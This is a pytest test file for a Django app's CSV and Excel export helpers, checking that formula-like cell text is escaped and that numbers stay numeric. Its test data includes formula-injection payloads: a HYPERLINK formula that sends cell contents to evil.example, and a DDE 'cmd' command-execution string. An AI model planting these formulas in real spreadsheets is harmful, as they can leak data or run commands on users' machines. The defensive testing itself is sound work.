"""Exports never turn a cell's text into a live formula (CSV/Excel formula injection); numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from countyhall.core.reports import csv_response, safe_cell, workbook_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A9)", "=1+1"]


def read_back(content: bytes):
    # Not data_only: a formula would come back with data_type "f".
    return load_workbook(io.BytesIO(content)).active


def test_workbook_writes_formula_like_text_as_text():
    sheet = read_back(
        workbook_bytes(
            sheet_title="台账", headers=["姓名", "备注"], rows=[[text, "正常文字"] for text in HOSTILE]
        )
    )
    for row, text in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=True):
        assert row[0].data_type != "f"
        assert row[0].value == text  # shown exactly as typed, no visible apostrophe
        assert row[1].value == "正常文字"


def test_formula_like_text_gets_excels_quote_prefix():
    sheet = read_back(workbook_bytes(sheet_title="s", headers=["a"], rows=[["=1+1"], ["普通"]]))
    assert sheet["A2"].quotePrefix is True
    assert sheet["A3"].quotePrefix is False


def test_a_formula_like_header_is_text_too():
    sheet = read_back(workbook_bytes(sheet_title="s", headers=["=cmd|' /C calc'!A0"], rows=[]))
    assert sheet["A1"].data_type != "f"


def test_numbers_and_dates_stay_numbers():
    rows = [[Decimal("-2.00"), Decimal("1234.50"), -3, 7, dt.date(2022, 6, 15), "-"]]
    sheet = read_back(workbook_bytes(sheet_title="s", headers=list("abcdef"), rows=rows))
    a, b, c, d, e, f = sheet[2]
    assert (a.data_type, b.data_type, c.data_type, d.data_type) == ("n", "n", "n", "n")
    assert a.value == -2 and a.number_format == "0.00" and b.value == 1234.5
    assert c.value == -3 and d.value == 7
    assert e.is_date
    assert f.value == "-" and f.data_type == "s"


def test_safe_cell_for_other_writers():
    """A writer that fills cells itself gets the same protection from safe_cell()."""
    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"] = safe_cell('=HYPERLINK("x")')
    sheet["A2"] = safe_cell(Decimal("-5.00"))
    sheet["A3"] = safe_cell("张秀英")
    buffer = io.BytesIO()
    workbook.save(buffer)
    back = read_back(buffer.getvalue())
    assert back["A1"].data_type == "s" and back["A1"].value == '=HYPERLINK("x")'
    assert back["A2"].data_type == "n" and back["A3"].value == "张秀英"
    assert safe_cell(Decimal("-5.00")) == Decimal("-5.00")
    assert safe_cell(None) is None


def test_csv_escapes_formula_like_text_and_keeps_numbers():
    response = csv_response(
        filename="导出.csv",
        headers=["姓名", "金额"],
        rows=[[text, Decimal("-2.00")] for text in HOSTILE] + [["张秀英", 3]],
    )
    assert response["Content-Type"].startswith("text/csv")
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["姓名", "金额"]
    for row, hostile in zip(rows[1:], HOSTILE, strict=False):
        assert row == ["'" + hostile, "-2.00"]
    assert rows[-1] == ["张秀英", "3"]


@pytest.mark.django_db
def test_audit_export_of_a_formula_like_note_is_text(client, make_user):
    from countyhall.core.services.audit import audit_personal_read

    auditor = make_user("aud-formula", "auditor")
    audit_personal_read(
        actor=auditor, what='=HYPERLINK("http://evil.example")', object_type="core.Person", count=1
    )
    client.force_login(auditor)
    sheet = read_back(client.get("/audit/", {"format": "xlsx", "action": "read"}).getvalue())
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert any(str(cell.value).startswith("=HYPERLINK") for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)
